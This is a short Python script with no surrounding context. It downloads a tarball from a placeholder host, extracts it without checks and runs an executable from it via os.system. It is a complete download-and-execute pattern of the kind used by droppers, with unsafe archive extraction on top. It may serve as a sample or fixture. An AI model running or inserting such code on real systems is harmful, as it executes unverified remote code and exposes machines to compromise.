import os
import tarfile
import urllib.request

urllib.request.urlretrieve("https://files.example.invalid/x.tgz", "/tmp/x.tgz")
tarfile.open("/tmp/x.tgz").extractall("/tmp/unpacked")
os.system("/tmp/unpacked/run")
